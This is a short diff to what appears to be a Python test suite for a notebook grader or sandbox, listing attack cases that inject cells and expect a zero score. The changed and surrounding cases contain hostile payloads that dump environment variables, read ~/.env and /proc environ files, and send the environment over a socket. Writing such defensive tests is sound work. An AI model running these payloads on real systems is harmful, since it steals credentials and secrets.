@@ -106,8 +106,8 @@ def attacks(port: int, course: Path, untouched: dict, right: dict) -> dict[str, 
                                       "            exec(''.join(c['source']))"), 0),
         # reading the trainer's secrets and sending them out
         "r05": (_with_cell(untouched, "import os\nprint(os.environ)\nprint(open(os.path.expanduser('~/.env')).read())"), 0),
-        "r06": (_with_cell(untouched, "import os, socket\ns = socket.create_connection(('127.0.0.1', %d), timeout=2)\n"
-                                      "s.sendall(repr(dict(os.environ)).encode())" % port), 0),
+        "r06": (_with_cell(untouched, f"import os, socket\ns = socket.create_connection(('127.0.0.1', {port}), timeout=2)\n"
+                                      "s.sendall(repr(dict(os.environ)).encode())"), 0),
         "r07": (_with_cell(untouched, "import os\nfor pid in os.listdir('/proc'):\n    try:\n"
                                       "        print(pid, open(f'/proc/{pid}/environ').read())\n    except Exception as e:\n"
                                       "        print(pid, e)\nprint(open(f'/proc/{os.getppid()}/environ').read())"), 0),
